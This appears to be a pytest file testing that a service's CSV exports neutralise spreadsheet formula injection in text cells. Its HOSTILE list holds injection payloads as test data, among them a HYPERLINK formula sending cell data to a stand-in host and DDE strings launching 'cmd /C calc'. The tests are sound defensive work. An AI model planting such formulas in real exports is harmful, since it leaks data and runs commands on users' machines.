"""Every CSV the service writes neutralises its text cells against spreadsheet formulas
(DOMAIN.md §5, issue 23 point 1): the reproducers of the issue, cell by cell."""

from __future__ import annotations

import csv
import io

import pytest

from app.core.csvcells import csv_text, text_cell

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_starting_a_formula_gets_a_quote(text: str) -> None:
    assert text_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Portail citoyen", "", "1+1", "a=b", "'=déjà", " =1", "é"])
def test_other_text_is_kept(text: str) -> None:
    assert text_cell(text) == text


def test_only_text_columns_are_neutralised() -> None:
    rows = [["=1+1", "-12.50", "-3"], ["@x", "2021-03-15", "+4"]]
    read = list(csv.reader(io.StringIO(csv_text(rows, numeric={1}))))
    assert read == [["'=1+1", "-12.50", "'-3"], ["'@x", "2021-03-15", "'+4"]]
